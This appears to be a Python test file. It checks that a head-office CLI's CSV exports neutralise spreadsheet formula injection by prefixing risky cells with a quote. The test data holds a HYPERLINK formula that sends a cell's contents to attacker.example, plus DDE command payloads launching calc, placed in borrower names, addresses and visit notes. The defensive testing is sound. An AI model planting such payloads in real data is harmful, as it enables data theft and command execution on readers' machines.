"""What leaves head office as CSV opens in a spreadsheet as text: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

from click.testing import CliRunner

from headoffice.cli import main as headoffice
from headoffice.oversight.exports import spreadsheet_safe
from headoffice.work import portfolio
from tests.helpers import HEADER, three_borrowers, write_portfolio
from tests.test_sync_api import call, outcome_mutation, pull_all

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://attacker.example/?"&B2,"click")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula start that is not a plain negative number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return cell.startswith("+")


def test_the_rule_itself():
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("+45 12 34 56 78") == "'+45 12 34 56 78"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("\tx") == "'\tx"
    assert spreadsheet_safe("-12.5683") == "-12.5683"  # a longitude stays a number
    assert spreadsheet_safe("-1+cmd") == "'-1+cmd"
    assert spreadsheet_safe("Søren") == "Søren"
    assert spreadsheet_safe(None) is None and spreadsheet_safe(12) == 12


def test_no_exported_cell_runs_as_a_formula(db_url, engine, server, world, tmp_path):
    rows = three_borrowers(
        **{
            "DK-1": {"borrower_name": HOSTILE, "phone": "+45 12 34 56 78"},
            "EN-1": {"address": "@SUM(1+1)*cmd|' /C calc'!A0"},
        }
    )
    header = [*HEADER, "lat", "lon"]
    rows = [row | {"lat": "51.5072", "lon": "-0.1276"} for row in rows]
    portfolio.import_accounts(
        engine, portfolio.read_portfolio(write_portfolio(tmp_path / "p.csv", rows, header))
    )
    visit = next(v for v in pull_all(server, world["Mette"])["visits"] if v["account_id"] == "DK-1")
    notes = ["=cmd|' /C calc'!A0", "-2+3", "\t=1", "+1"]
    mutations = [outcome_mutation(visit, note=note) for note in notes]
    answer = call(server, "/sync/push", {"mutations": mutations}, world["Mette"]).json()
    assert {r["status"] for r in answer["results"]} == {"applied"}
    runner = CliRunner()
    for what in ("accounts", "outcomes", "corrections"):
        result = runner.invoke(headoffice, ["export", what, "--db", db_url])
        assert result.exit_code == 0, result.output
        found = cells(result.output)
        assert [c for c in found if runs_as_formula(c)] == [], what
    accounts = runner.invoke(headoffice, ["export", "accounts", "--db", db_url]).output
    assert "'" + HOSTILE in cells(accounts)  # kept as typed, shown as text
    assert "-0.1276" in cells(accounts)  # numbers stay numbers
    outcomes = runner.invoke(headoffice, ["export", "outcomes", "--db", db_url]).output
    assert {"'=cmd|' /C calc'!A0", "'-2+3", "'\t=1", "'+1"} <= set(cells(outcomes))
